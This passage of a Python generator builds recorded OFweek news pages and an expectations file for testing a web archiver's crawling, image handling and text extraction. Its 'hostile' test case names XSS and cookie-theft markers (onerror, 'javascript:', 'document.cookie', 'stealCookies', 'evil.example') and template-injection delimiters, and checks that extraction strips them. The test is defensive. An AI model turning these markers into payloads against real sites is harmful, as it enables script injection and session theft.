        "https://ee.ofweek.com/2024-03/ART-8420-2800-30627951.html",
        "HBM3E良率之争：三大存储厂商的技术路线对比",
        "2024-03-12",
    ),
    (
        "https://ee.ofweek.com/2024-03/ART-8420-2801-30627604.html",
        "玻璃基板会是下一代封装基板吗？",
        "2024-03-09",
    ),
]

COMMON = {"site_name": "OFweek维科网", "reads": 2437}

ART: dict[str, dict] = {
    SEED: {
        **COMMON,
        "case": "seed",
        "title": SEED_TITLE,
        "date": "2022-07-20 13:47",
        "source": "高科技行业门户",
        "summary": "最近一段时间，互联网医疗赛道似乎有些沉寂，数字医疗平台微医再获超10亿国资融资。",
        "tags": ["数字医疗", "互联网医疗", "微医"],
        "tag_dir": "medical",
        "channel": "维科号",
        "channel_url": "https://mp.ofweek.com/medical/",
        "crumbs": [
            ("https://www.ofweek.com/", "OFweek首页"),
            ("https://mp.ofweek.com/", "维科号"),
            ("https://mp.ofweek.com/medical/", "医疗科技"),
        ],
        "related": [
            (
                "https://mp.ofweek.com/medical/a245614127702",
                "互联网医院“下半场”：从问诊到慢病管理",
                "2022-07-19",
            ),
            (
                "https://mp.ofweek.com/medical/a845614126981",
                "医保支付打通后，数字医疗平台如何盈利？",
                "2022-07-18",
            ),
            (
                "https://medical.ofweek.com/2022-07/ART-11120-8440-30568802.html",
                "远程医疗服务网络建设提速",
                "2022-07-15",
            ),
        ],
        "mp": True,
        "member": 4779,
    },
    PORTAL: {
        **COMMON,
        "case": "portal-images",
        "title": PORTAL_TITLE,
        "date": "2024-03-15 09:30",
        "time_padding": True,
        "source": "OFweek电子工程网",
        "summary": "随着AI服务器出货量持续攀升，先进封装产能再度成为半导体产业链上最紧俏的资源。",
        "tags": ["先进封装", "CoWoS", "HBM", "半导体"],
        "tag_dir": "ee",
        "channel": "电子工程",
        "channel_url": "https://ee.ofweek.com/",
        "crumbs": EE_CRUMBS,
        "related": RELATED_EE,
    },
    MULTI: {
        **COMMON,
        "case": "multi-page",
        "title": MULTI_TITLE,
        "date": "2024-02-27 16:05",
        "source": "OFweek电子工程网",
        "summary": "车规级MCU经历了从“一芯难求”到库存高企的剧烈波动，国产替代进入深水区。",
        "tags": ["MCU", "车规芯片", "国产替代"],
        "tag_dir": "ee",
        "channel": "电子工程",
        "channel_url": "https://ee.ofweek.com/",
        "crumbs": EE_CRUMBS,
        "related": RELATED_EE,
    },
    OLD: {
        "case": "old-layout",
        "title": OLD_TITLE,
        "date": "2018-06-12 09:15",
        "source": "OFweek物联网",
        "summary": "运营商补贴让NB-IoT模组价格在一年内腰斩。",
        "tags": ["NB-IoT", "模组", "运营商"],
        "related": [
            (
                "http://iot.ofweek.com/2018-06/ART-132216-8420-30237710.html",
                "eMTC与NB-IoT之争告一段落？",
                "2018-06-08",
            ),
            (
                "http://iot.ofweek.com/2018-05/ART-132216-8420-30233318.html",
                "智能水表招标量同比翻番",
                "2018-05-30",
            ),
        ],
    },
    HOSTILE: {
        **COMMON,
        "case": "hostile",
        "title": HOSTILE_TITLE,
        "date": "2023-11-08 14:20",
        "source": "OFweek机器人网",
        "summary": "算力芯片的竞争正在从单卡性能转向系统能力。",
        "tags": ["AI芯片", "算力", "机器人"],
        "tag_dir": "robot",
        "channel": "机器人",
        "channel_url": "https://robot.ofweek.com/",
        "crumbs": [
            ("https://www.ofweek.com/", "OFweek首页"),
            ("https://robot.ofweek.com/", "机器人"),
            ("https://robot.ofweek.com/CATList-8321200-8100-robot.html", "资讯"),
        ],
        "related": [
            (
                "https://robot.ofweek.com/2023-11/ART-8321203-8110-30616102.html",
                "协作机器人价格战进入第三年",
                "2023-11-06",
            )
        ],
    },
    UTF8: {
        **COMMON,
        "case": "charset-from-header",
        "title": UTF8_TITLE,
        "date": "2023-09-21 08:45",
        "source": "OFweek医疗科技网",
        "summary": "多个省份将腔镜手术机器人的配套耗材纳入带量采购范围。",
        "tags": ["手术机器人", "集采", "医疗器械"],
        "tag_dir": "medical",
        "channel": "医疗科技",
        "channel_url": "https://medical.ofweek.com/",
        "crumbs": [
            ("https://www.ofweek.com/", "OFweek首页"),
            ("https://medical.ofweek.com/", "医疗科技"),
            ("https://medical.ofweek.com/CATList-11100-8100-medical.html", "资讯"),
        ],
        "related": [
            (
                "https://medical.ofweek.com/2023-09/ART-11120-8440-30607521.html",
                "骨科手术机器人装机量同比增长六成",
                "2023-09-18",
            )
        ],
    },
    SELFMEDIA: {
        **COMMON,
        "case": "self-media",
        "title": SELF_TITLE,
        "date": "2022-08-03 17:26",
        "source": "半导体观察员",
        "source_url": "https://mp.ofweek.com/member/5120",
        "summary": "RISC-V已经在微控制器和物联网芯片中站稳脚跟，如今越来越多的厂商把目光投向了数据中心。",
        "tags": ["RISC-V", "数据中心", "服务器CPU"],
        "tag_dir": "ee",
        "channel": "维科号",
        "channel_url": "https://mp.ofweek.com/ee/",
        "crumbs": [
            ("https://www.ofweek.com/", "OFweek首页"),
            ("https://mp.ofweek.com/", "维科号"),
            ("https://mp.ofweek.com/ee/", "电子工程"),
        ],
        "related": [
            ("https://mp.ofweek.com/ee/a156714519420", "开源指令集的商业化难题", "2022-08-01")
        ],
        "mp": True,
        "member": 5120,
    },
    EE_ONLY: {
        **COMMON,
        "case": "channel-only",
        "title": EE_TITLE,
        "date": "2023-12-05 10:40",
        "source": "OFweek电子工程网",
        "summary": "2023年氮化镓快充在手机原装充电器中的渗透率已突破四成。",
        "tags": ["氮化镓", "快充", "电源"],
        "tag_dir": "ee",
        "channel": "电子工程",
        "channel_url": "https://ee.ofweek.com/",
        "crumbs": EE_CRUMBS,
        "related": RELATED_EE,
    },
    UNKNOWN: {
        "case": "unknown-layout",
        "title": UNKNOWN_TITLE,
        "date": "2023-05-16 11:02",
        "source": "OFweek人工智能网",
        "summary": "我们走访了三家正在试点AI质检的工厂，看大模型能不能帮产线少漏检一个缺陷。",
        "tags": ["大模型", "AI质检", "智能制造"],
    },
}

MISSING_ITEM = {
    "title": "晶圆代工价格止跌回升，成熟制程产能利用率回到八成",
    "date": "2024-01-18 10:12",
    "source": "OFweek电子工程网",
    "summary": "多家晶圆代工厂上调成熟制程报价。（原文已删除）",
    "tags": ["晶圆代工"],
}


def list_item(url: str, *, href: str | None = None) -> dict:
    meta = MISSING_ITEM if url == MISSING else ART[url]
    digest = hashlib.md5(url.encode()).hexdigest()[:12]
    item = {
        "url": url,
        "title": meta["title"],
        "date": meta["date"],
        "source": meta["source"],
        "summary": meta["summary"],
        "tags": meta["tags"][:2],
        "thumb": f"https://images.ofweek.com/Upload/News/thumb/{digest}_200x133.jpg",
    }
    if href:
        item["href"] = href
    return item


# List contents: (list URL, [items]). Page 2's last item reappears first on page 3 (the list
# moved while it was being read); the ee list links one item protocol-relative.
NEWS_PAGES = [
    [list_item(PORTAL), list_item(MULTI), list_item(MISSING), list_item(HOSTILE), list_item(UTF8)],
    [list_item(UNKNOWN), list_item(SELFMEDIA), list_item(SEED)],
    [list_item(SEED), list_item(OLD)],
]
EE_PAGES = [
    [
        list_item(PORTAL),
        list_item(MULTI, href="//ee.ofweek.com/2024-02/ART-8420-2801-30624517.html"),
        list_item(MISSING),
    ],
    [list_item(EE_ONLY)],
]


# --------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------


class Recorder:
    def __init__(self, root: Path):
        self.root = root
        self.files: dict[str, bytes] = {}

    def put(self, url_or_rel: str, data: bytes) -> None:
        rel = url_to_relpath(url_or_rel) if "://" in url_or_rel else url_or_rel
        assert rel is not None, url_or_rel
        assert rel not in self.files, f"written twice: {rel}"
        self.files[rel] = data

    def page(self, url: str, text: str, encoding: str = "gbk") -> None:
        text = text.replace("\xa0", "&nbsp;")
        self.put(url, text.encode(encoding, "xmlcharrefreplace"))

    def text(self, rel: str, text: str) -> None:
        self.put(rel, text.encode("utf-8"))


def build() -> dict[str, bytes]:
    rec = Recorder(HERE)
    seed_no = iter(range(1, 1000))

    def jpg(url: str, w: int = 64, h: int = 40) -> None:
        rec.put(url, jpeg_bytes(w, h, next(seed_no), comment=url.rsplit("/", 1)[1][:60]))

    def png(url: str, w: int = 48, h: int = 32) -> None:
        rec.put(url, png_bytes(w, h, next(seed_no)))

    def gif(url: str, w: int = 40, h: int = 24) -> None:
        rec.put(url, gif_bytes(w, h, next(seed_no)))

    # --- lists ---
    for n, items in enumerate(NEWS_PAGES, 1):
        rec.page(news_list(n), news_list_page(n, len(NEWS_PAGES), items))
    for n, items in enumerate(EE_PAGES, 1):
        rec.page(ee_list(n), ee_list_page(n, len(EE_PAGES), items))

    # --- a. the seed, as a self-media page ---
    art = ART[SEED]
    rec.page(
        SEED,
        current_article(
            art,
            body=SEED_BODY,
            page_url=SEED,
            after_body='<div class="statement">声明：本文由入驻维科号的作者撰写，观点仅代表作者本人，不代表OFweek立场。如有侵权或其他问题，请联系举报。</div>',
            prev_next=prev_next_box(
                (
                    "https://mp.ofweek.com/medical/a245614127702",
                    "互联网医院“下半场”：从问诊到慢病管理",
                ),
                ("https://mp.ofweek.com/medical/a345614129015", "AI制药的第一批商业化订单来了"),
            ),
        ),
    )
    for url in SEED_IMAGES:
        jpg(url, 96, 64)

    # --- b. portal article with image edge cases ---
    art = ART[PORTAL]
    rec.page(
        PORTAL,
        current_article(
            art,
            body=PORTAL_BODY,
            inside_after=PORTAL_STATEMENT,
            page_url=PORTAL,
            prev_next=prev_next_box((MULTI, MULTI_TITLE), (EE_ONLY, EE_TITLE)),
        ),
    )
    rec.put(PLACEHOLDER, PLACEHOLDER_GIF)
    jpg(P_IMG["lazy_data_src"], 96, 56)
    png(P_IMG["lazy_data_original"])
    jpg(P_IMG["protocol_relative"])
    gif(P_IMG["relative"])
    png(P_IMG["extensionless"], 32, 32)  # images.ofweek.com/image@id=1
    jpg(P_IMG["dropped"], 128, 96)
    jpg(P_IMG["slow"])
    jpg(P_IMG["redirect_target"])
    jpg(P_IMG["no_referrer"])
    rec.text(
        "images.ofweek.com/errors/hotlink.html",
        (
            '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>403 禁止盗链</title></head>\n'
            '<body><h1>图片暂时无法显示</h1><p>本站图片禁止外链，请访问 <a href="https://www.ofweek.com/">OFweek维科网</a> 查看原文。</p></body></html>\n'
        ),
    )
    rec.text(
        "images.ofweek.com/_routes.yaml",
        f"""# The portal article's redirected image ({PORTAL}). Its failing images fail only
# where a test adds the fault routes of {FAULTS_FILE}. Format: tests/sites/README.md.
# Generated by make_ofweek.py.
/Upload/News/2024-03/15/moved_10.jpg:
  redirect: {P_IMG["redirect_target"]}
""",
    )

    # --- c. multi-page article (meta http-equiv gb2312) ---
    art = ART[MULTI]
    for i, body in enumerate(MULTI_PAGES, 1):
        rec.page(
            multi_page_url(i),
            current_article(
                art,
                body=body,
                inside_after=article_pager(i, len(MULTI_PAGES)),
                page_url=multi_page_url(i),
                charset=CHARSET_HTTP_EQUIV,
                prev_next=prev_next_box(
                    (
                        "https://ee.ofweek.com/2024-02/ART-8420-2801-30624109.html",
                        "功率半导体库存拐点已至？",
                    ),
                    (PORTAL, PORTAL_TITLE),
                ),
            ),
        )
    jpg(f"{IMG}/2024-02/27/mcu_market_p1.jpg")
    png(f"{IMG}/2024-02/27/mcu_test_p2.png")
    jpg(f"{IMG}/2024-02/27/mcu_roadmap_p3.jpg")

    # --- d. old layout, two pages, http:// images ---
    art = ART[OLD]
    base = OLD.rsplit("/", 1)[1].removesuffix(".html")
    for i, body in enumerate(OLD_PAGES, 1):
        rec.page(
            old_page_url(i),
            old_article(
                art,
                body=body,
                page_url=old_page_url(i),
                lead=OLD_LEAD,
                pager=old_pager(base, i, len(OLD_PAGES)),
            ),
        )
    jpg(OLD_IMAGES[0])
    png(OLD_IMAGES[1])

    # --- e. unknown layout ---
    rec.page(UNKNOWN, unknown_layout_page())
    jpg(UNKNOWN_IMAGE, 80, 48)

    # --- f. hostile ---
    art = ART[HOSTILE]
    rec.page(
        HOSTILE,
        current_article(
            art,
            body=HOSTILE_BODY,
            page_url=HOSTILE,
            prev_next=prev_next_box(
                None,
                (
                    "https://robot.ofweek.com/2023-11/ART-8321203-8110-30616102.html",
                    "协作机器人价格战进入第三年",
                ),
            ),
        ),
    )
    png(HOSTILE_IMAGE)

    # --- h. UTF-8 bytes, no <meta> charset; the charset comes from the route's header ---
    art = ART[UTF8]
    page = current_article(art, body=UTF8_BODY, page_url=UTF8, charset="")
    rec.put(UTF8, page.encode("utf-8"))
    jpg(UTF8_IMAGE)
    rec.text(
        "medical.ofweek.com/_routes.yaml",
        f"""# {UTF8} is UTF-8 and says so only in the HTTP header.
# Format: tests/sites/README.md. Generated by make_ofweek.py.
{urlsplit(UTF8).path}:
  headers:
    Content-Type: text/html; charset=utf-8
""",
    )

    # --- i. second self-media article ---
    art = ART[SELFMEDIA]
    rec.page(
        SELFMEDIA,
        current_article(
            art,
            body=SELF_BODY,
            page_url=SELFMEDIA,
            after_body='<div class="statement">声明：本文由入驻维科号的作者撰写，观点仅代表作者本人，不代表OFweek立场。如有侵权或其他问题，请联系举报。</div>',
        ),
    )
    for url in SELF_IMAGES:
        jpg(url, 80, 56)

    # --- k. ee-only article, share bar inside the body container ---
    art = ART[EE_ONLY]
    rec.page(
        EE_ONLY,
        current_article(
            art,
            body=EE_BODY,
            inside_after=share_bar(),
            page_url=EE_ONLY,
            prev_next=prev_next_box((PORTAL, PORTAL_TITLE), None),
        ),
    )
    jpg(EE_IMAGE)

    # --- robots.txt (iot/robot/medical have none: they answer 404) ---
    robots = {
        "www.ofweek.com": "/newquery.action",
        "mp.ofweek.com": "/member/",
        "ee.ofweek.com": "/search/",
        "images.ofweek.com": "/Upload/private/",
    }
    for host, disallow in robots.items():
        rec.text(
            f"{host}/robots.txt",
            f"# robots.txt for {host}\nUser-agent: *\nDisallow: {disallow}\nAllow: /\n\nSitemap: https://{host}/sitemap.xml\n",
        )

    # --- the portal's failing images, as served without the fault routes (added last, so
    # the other images keep their bytes) ---
    jpg(P_IMG["missing_404"])
    jpg(P_IMG["not_an_image"])

    rec.text(CASES_FILE, cases_yaml())
    rec.text(FAULTS_FILE, faults_yaml())
    return rec.files


def faults_yaml() -> str:
    """The fault routes of the portal's images, by host: added only by tests about them."""
    path = {k: urlsplit(P_IMG[k]).path for k in ("missing_404", "dropped", "slow", "not_an_image")}
    return f"""# Fault routes for the recorded OFweek copy, by host: a test about failing images adds
# them to its own copy of tests/sites (tests/crawling.py add_faults), so that every other
# crawl stores every image at once. Same keys as a host's _routes.yaml (tests/sites/README.md);
# ofweek-cases.yaml lists what each one does to the portal article ({PORTAL}).
# Generated by make_ofweek.py.
images.ofweek.com:
  {path["missing_404"]}:
    status: 404       # the file is gone
    body: "<h1>404 Not Found</h1>"
  {path["dropped"]}:
    drop: true        # headers + half the JPEG, then the connection is cut
  {path["slow"]}:
    delay: 30         # a stall: longer than any test's DOWNLOAD_TIMEOUT
  {path["not_an_image"]}:
    body_file: errors/hotlink.html    # hotlink protection: 200, but an HTML page
    headers:
      Content-Type: text/html; charset=utf-8
"""


def unknown_layout_page() -> str:
    """A layout no selector knows: HTML5 semantics, JSON-LD, no div.artical / div.article_left."""
    art = ART[UNKNOWN]
    iso = beijing(art["date"]).isoformat()
    paragraphs = "\n".join(f"        <p>{esc(p)}</p>" for p in UNKNOWN_PARAGRAPHS[:4])
    rest = "\n".join(f"        <p>{esc(p)}</p>" for p in UNKNOWN_PARAGRAPHS[4:])
    ld = (
        '{"@context":"https://schema.org","@type":"NewsArticle","headline":"'
        + art["title"]
        + '","datePublished":"'
        + iso
        + '","author":{"@type":"Organization","name":"'
        + art["source"]
        + '"},"publisher":{"@type":"Organization","name":"OFweek维科网"},"image":["'
        + UNKNOWN_IMAGE
        + '"]}'
    )
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="gb2312">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{esc(art["title"])}_OFweek人工智能网</title>
<meta name="keywords" content="{esc(",".join(art["tags"]))}">
<meta name="description" content="{esc(art["summary"])}">
<meta name="author" content="{esc(art["source"])}">
<meta property="og:type" content="article">
<meta property="og:title" content="{esc(art["title"])}">
<meta property="og:url" content="{UNKNOWN}">
<meta property="og:image" content="{UNKNOWN_IMAGE}">
<meta property="article:published_time" content="{iso}">
<link rel="canonical" href="{UNKNOWN}">
<link rel="stylesheet" href="https://www.ofweek.com/ai/static/v5/css/post.css?v=5.2.0">
<script type="application/ld+json">{ld}</script>
{BAIDU_TONGJI}
</head>
<body class="v5 post-page">
<header class="site-header">
  <nav class="site-nav">
    <a class="brand" href="https://www.ofweek.com/ai/"><img src="https://www.ofweek.com/ai/static/v5/img/logo-ai.svg" alt="OFweek人工智能网"></a>
    <a href="https://www.ofweek.com/ai/">首页</a><a href="https://www.ofweek.com/ai/CATList-201700-8100-ai.html">资讯</a><a href="https://www.ofweek.com/ai/report/">报告</a><a href="https://mp.ofweek.com/ai/">维科号</a>
    <a href="javascript:void(0)" class="nav-login" data-action="login">登录</a>
  </nav>
</header>
<main class="post-wrap">
  <article class="post" itemscope itemtype="https://schema.org/NewsArticle">
    <h1 class="post__headline" itemprop="headline">{esc(art["title"])}</h1>
    <div class="post__meta">
      <time class="post__time" datetime="{iso}" itemprop="datePublished">2023年05月16日 11:02</time>
      <span class="post__byline" itemprop="author">{esc(art["source"])}</span>
      <span class="post__views">阅读 1.2万</span>
    </div>
    <section class="post__body" itemprop="articleBody">
{paragraphs}
        <figure class="post__figure"><img src="{UNKNOWN_IMAGE}" alt="AI质检工位" loading="lazy"><figcaption>某工厂的AI质检工位</figcaption></figure>
{rest}
    </section>
    <footer class="post__footer">
      <ul class="post__tags">{"".join(f'<li><a href="https://www.ofweek.com/ai/tag-{quote(t)}.HTM">{esc(t)}</a></li>' for t in art["tags"])}</ul>
      <div class="post__share"><button type="button" data-share="wechat">微信</button><button type="button" data-share="weibo">微博</button></div>
      <p class="post__copyright">版权声明：本文为OFweek人工智能网原创，转载请注明出处。</p>
    </footer>
  </article>
  <aside class="post-aside">
    <section class="aside-block"><h2>猜你喜欢</h2><ol>{"".join(f'<li><a href="{u}">{esc(t)}</a></li>' for u, t in SIDEBAR_LINKS)}</ol></section>
  </aside>
</main>
<footer class="site-footer"><p>Copyright © 2006-2023 OFweek维科网 粤ICP备06087881号</p></footer>
<script src="https://www.ofweek.com/ai/static/v5/js/post.js?v=5.2.0" defer></script>
</body>
</html>
"""


# --------------------------------------------------------------------------------------
# ofweek-cases.yaml
# --------------------------------------------------------------------------------------

NOT_IN_BODY_COMMON = [
    "分享到",
    "相关阅读",
    "上一篇",
    "下一篇",
    "热门排行",
    "发表评论",
    "粤ICP备",
    "_hmt",
    "<script",
]


def cases_yaml() -> str:
    def case(url: str, **extra) -> dict:
        art = ART[url]
        d = {
            "case": art["case"],
            "title": art["title"],
            "date": rfc1123(art["date"]),
            "date_on_page": art["date"],
            "author": art["source"],
            "tags": art["tags"],
        }
        d.update(extra)
        return d

    articles = {
        SEED: case(
            SEED,
            layout="current",
            pages=1,
            page_urls=[SEED],
            charset="gb2312 (meta charset)",
            headimg=SEED_IMAGES[0],
            body_contains=[
                "最近一段时间，互联网",
                "一、微医再获超10亿国资融资",
                "数字健共体",
                "——茅于轼",
            ],
            body_not_contains=NOT_IN_BODY_COMMON
            + [
                "原文标题",
                "声明：本文由入驻维科号",
                "互联网医院“下半场”",
                "AI制药的第一批商业化订单",
            ],
            images_local=SEED_IMAGES,
            images_failed={},
            notes="Self-media (维科号) page; the seed file is this page archived. Images carry referrerpolicy=no-referrer.",
        ),
        PORTAL: case(
            PORTAL,
            layout="current",
            pages=1,
            page_urls=[PORTAL],
            charset="gb2312 (meta charset)",
            headimg=P_IMG["lazy_data_src"],
            body_contains=[
                "CoWoS封装的订单能见度",
                "一、产能缺口到底有多大？",
                "<table",
                "台积电",
                "<li>",
                "<em>",
                "先进封装将成为决定芯片交付能力的关键变量",
            ],
            body_not_contains=NOT_IN_BODY_COMMON
            + ["声明：", PLACEHOLDER, "氮化镓快充渗透率突破四成"],
            images_local=[
                P_IMG[k]
                for k in (
                    "lazy_data_src",
                    "lazy_data_original",
                    "protocol_relative",
                    "relative",
                    "extensionless",
                    "redirect",
                    "no_referrer",
                )
            ],
            images_failed={
                P_IMG["missing_404"]: "404 (fault route status: 404)",
                P_IMG["dropped"]: "connection dropped mid-body (fault route drop)",
                P_IMG["slow"]: "timeout (fault route delay: 30 > DOWNLOAD_TIMEOUT)",
                P_IMG["not_an_image"]: "200 text/html, not an image (fault route: hotlink page)",
            },
            image_notes={
                P_IMG["lazy_data_src"]: "lazy: data-src, src is the placeholder gif",
                P_IMG["lazy_data_original"]: "lazy: data-original, src is the placeholder gif",
                P_IMG["protocol_relative"]: "written //images.ofweek.com/... on the page",
                P_IMG["relative"]: "written ../Upload/News/2024-03/15/diagram_04.gif on the page",
                P_IMG[
                    "extensionless"
                ]: "no extension; served image/png (file images.ofweek.com/image@id=1): store as .png",
                P_IMG["redirect"]: f"302 to {P_IMG['redirect_target']}",
                P_IMG[
                    "no_referrer"
                ]: "<img referrerpolicy=no-referrer>: must be fetched without a Referer header",
            },
            must_not_fetch=[PLACEHOLDER],
            fetched_without_referer=[P_IMG["no_referrer"]],
            notes="The 声明 paragraph is inside div#articleC (last <p>); share bar, tags, prev/next and related list are outside.",
        ),
        MULTI: case(
            MULTI,
            layout="current",
            pages=3,
            page_urls=[multi_page_url(i) for i in range(1, 4)],
            charset="gb2312 (meta http-equiv only)",
            headimg=f"{IMG}/2024-02/27/mcu_market_p1.jpg",
            body_contains=[
                "2023年全球车规MCU市场规模约为82亿美元",
                "一、功能安全认证是第一道门槛",
                "二、AEC-Q100可靠性测试只是开始",
                "三、国产厂商的突围路径",
                "这注定是一场持久战",
            ],
            body_in_order=[
                "一、功能安全认证是第一道门槛",
                "二、AEC-Q100可靠性测试只是开始",
                "三、国产厂商的突围路径",
            ],
            body_not_contains=NOT_IN_BODY_COMMON + ["上一页", "下一页", "功率半导体库存拐点已至"],
            images_local=[
                f"{IMG}/2024-02/27/mcu_market_p1.jpg",
                f"{IMG}/2024-02/27/mcu_test_p2.png",
                f"{IMG}/2024-02/27/mcu_roadmap_p3.jpg",
            ],
            images_failed={},
            notes="Pager div.artical-page (上一页 / numbers / 下一页, relative links) is inside div#articleC on every page. url = page 1.",
        ),
        OLD: case(
            OLD,
            layout="old",
            pages=2,
            page_urls=[old_page_url(1), old_page_url(2)],
            charset="gb2312 (meta http-equiv only)",
            headimg=OLD_IMAGES[0],
            lead=OLD_LEAD,
            author_on_page="来源：OFweek物联网",
            body_contains=[
                "国内三大运营商相继宣布NB-IoT网络正式商用",
                "智能水表、智能燃气表和智慧停车",
                "模组价格有望进一步下探至20元以内",
            ],
            body_in_order=[
                "国内三大运营商相继宣布NB-IoT网络正式商用",
                "智能水表、智能燃气表和智慧停车",
            ],
            body_not_contains=[
                "上一页",
                "下一页",
                "分享到",
                "相关文章",
                "热门文章",
                "声明：",
                "当前位置",
                "<script",
            ],
            images_local=OLD_IMAGES,
            images_failed={},
            notes="#nextPage on page 1 links '2' and '下一页' to _2.html; on page 2 it links '上一页' and '1' back to page 1. Images are http:// URLs.",
        ),
        UNKNOWN: case(
            UNKNOWN,
            layout="unknown",
            pages=1,
            page_urls=[UNKNOWN],
            charset="gb2312 (meta charset)",
            headimg=UNKNOWN_IMAGE,
            body_contains=[
                "它能不能帮产线少漏检一个缺陷",
                "漏检率降到了万分之五以下",
                "投资回收期在十个月到两年之间",
            ],
            body_not_contains=["猜你喜欢", "版权声明", "粤ICP备", "<script"],
            images_local=[UNKNOWN_IMAGE],
            images_failed={},
            fallback=True,
            notes="No known selector matches (no div.artical, p.title, div.article_left). Title/date/author are in <h1>, og:title, "
            "article:published_time, <time datetime>, <meta name=author> and JSON-LD; generic extraction must find the body.",
        ),
        HOSTILE: case(
            HOSTILE,
            layout="current",
            pages=1,
            page_urls=[HOSTILE],
            charset="gb2312 (meta charset); the emoji is &#128640; on the page",
            headimg=HOSTILE_IMAGE,
            body_contains=[
                "算力芯片的竞争正在从单卡性能转向系统能力",
                "高精度减速器仍依赖进口",
                "查看完整榜单",
                "真正的竞争力来自软件生态",
            ],
            body_contains_raw=["&#123;&#123; x &#125;&#125;", "&#123;% include"],
            body_not_contains=NOT_IN_BODY_COMMON
            + [
                "<iframe",
                "<object",
                "<embed",
                "<style",
                "<form",
                "onerror",
                "onclick",
                "onmouseover",
                "javascript:",
                "JaVaScRiPt:",
                "alert(",
                "document.cookie",
                "stealCookies",
                "evil.example",
                "{{",
                "}}",
                "{%",
                "%}",
            ],
            images_local=[HOSTILE_IMAGE],
            images_failed={},
            notes="Title has ' \" ': ' '---' '#' '{{ }}' '{% %}' and an emoji; frontmatter must stay valid YAML and round-trip the title.",
        ),
        UTF8: case(
            UTF8,
            layout="current",
            pages=1,
            page_urls=[UTF8],
            charset="utf-8 from the HTTP header only (no <meta> charset)",
            headimg=UTF8_IMAGE,
            body_contains=[
                "🩺",
                "集采首先冲击的是耗材和服务收入——这恰恰是",
                "国产手术机器人的装机量有望实现翻倍增长",
            ],
            body_not_contains=NOT_IN_BODY_COMMON,
            images_local=[UTF8_IMAGE],
            images_failed={},
        ),
        SELFMEDIA: case(
            SELFMEDIA,
            layout="current",
            pages=1,
            page_urls=[SELFMEDIA],
            charset="gb2312 (meta charset)",
            headimg=SELF_IMAGES[0],
            body_contains=["RISC-V诞生十余年", "二、软件生态才是真正的拼图"],
            body_not_contains=NOT_IN_BODY_COMMON
            + ["原文标题", "声明：本文由入驻维科号", "开源指令集的商业化难题"],
            images_local=SELF_IMAGES,
            images_failed={},
            notes="div.source-name holds a link to the author's page; its text is the author.",
        ),
        EE_ONLY: case(
            EE_ONLY,
            layout="current",
            pages=1,
            page_urls=[EE_ONLY],
            charset="gb2312 (meta charset)",
            headimg=EE_IMAGE,
            body_contains=["渗透率已突破四成", "还需要经历更长时间的验证"],
            body_not_contains=NOT_IN_BODY_COMMON + ["收藏", "点赞"],
            images_local=[EE_IMAGE],
            images_failed={},
            notes="Only on the ee channel list (page 2); also linked as 下一篇 from the portal article, so a news-list crawl that follows prev/next links fetches it by mistake. Share bar inside div#articleC.",
        ),
        MISSING: {
            "case": "missing",
            "status": 404,
            "title_in_list": MISSING_ITEM["title"],
            "notes": "Linked from the news list (page 1) and the ee list (page 1); no file, so 404. Retried on a later run.",
        },
    }

    def list_entry(
        url: str,
        n: int,
        last: int,
        items: list[dict],
        item_selector: str,
        date_selector: str | None,
    ) -> dict:
        entry = {
            "url": url,
            "page": n,
            "last_page": n == last,
            "items": [it["url"] for it in items],
            "item_selector": item_selector,
        }
        if date_selector:
            entry["date_selector"] = date_selector
            entry["dates"] = [it["date"] for it in items]
        entry["pager_selector"] = "div.list-num a"
        entry["next_page"] = (
            None if n == last else (news_list(n + 1) if "www." in url else ee_list(n + 1))
        )
        return entry

    news = [
        list_entry(
            news_list(n),
            n,
            len(NEWS_PAGES),
            items,
            "div.list-left div.con-details h3 > a",
            "span.fb-tl",
        )
        for n, items in enumerate(NEWS_PAGES, 1)
    ]
    ee = [
        list_entry(
            ee_list(n),
            n,
            len(EE_PAGES),
            items,
            "div.list_model div.model_right h3 a",
            "div.model_right div.tag span.date",
        )
        for n, items in enumerate(EE_PAGES, 1)
    ]

    def summary(pages: list[list[dict]]) -> dict:
        urls = list(dict.fromkeys(it["url"] for items in pages for it in items))
        return {
            "pages": len(pages),
            "links": sum(len(items) for items in pages),
            "distinct_articles": len(urls),
            "archivable": len([u for u in urls if u != MISSING]),
            "missing": [u for u in urls if u == MISSING],
            "articles": urls,
        }

    doc = {
        "generated_by": "tests/sites/make_ofweek.py (do not edit by hand)",
        "timezone": "+08:00",
        "date_format": "RFC 1123 GMT, from Beijing time on the page",
        "proxy": "serve tests/sites with archiver.replay.ReplayProxy; real URLs, https through CONNECT",
        "faults": f"images_failed fail only in a copy with the routes of {FAULTS_FILE} added (tests/crawling.py "
        "add_faults); without them they are stored like images_local",
        "lists": {
            "news": {
                "start": NEWS_LIST,
                **summary(NEWS_PAGES),
                "duplicates": [SEED],
                "page_urls": news,
            },
            "ee": {
                "start": ee_list(1),
                **summary(EE_PAGES),
                "duplicates": [],
                "protocol_relative_items": [MULTI],
                "page_urls": ee,
            },
        },
        "never_fetch": {
            "sidebar_and_related_articles": [u for u, _ in SIDEBAR_LINKS],
            "placeholder": [PLACEHOLDER],
            "why": "not list items: hot rankings, related lists, lazy-load placeholder. They are not recorded (except the placeholder gif).",
        },
        "hosts_without_robots_txt": ["iot.ofweek.com", "robot.ofweek.com", "medical.ofweek.com"],
        "articles": articles,
    }
    header_text = (
        "# Expectations for the recorded OFweek copy. Generated by make_ofweek.py; do not edit.\n"
    )
    return header_text + yaml.safe_dump(doc, allow_unicode=True, sort_keys=False, width=120)


# --------------------------------------------------------------------------------------
# main
# --------------------------------------------------------------------------------------


def existing_files(root: Path) -> dict[str, bytes]:
    found = {}
    for host in GENERATED_HOSTS:
        for path in sorted((root / host).rglob("*")):
            if path.is_file():
                found[path.relative_to(root).as_posix()] = path.read_bytes()
    for name in (CASES_FILE, FAULTS_FILE):
        if (root / name).exists():
            found[name] = (root / name).read_bytes()
    return found


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "--check", action="store_true", help="only compare; exit 1 if the files differ"
    )
    parser.add_argument(
        "--seed", type=Path, help="also check that the seed page reproduces this seed file's body"
    )
    args = parser.parse_args(argv)

    files = build()
    total = sum(len(b) for b in files.values())

    if args.seed:
        text = args.seed.read_text(encoding="utf-8")
        body = text[text.index("<div>   \n") + 9 : text.rindex("\n</div>")]
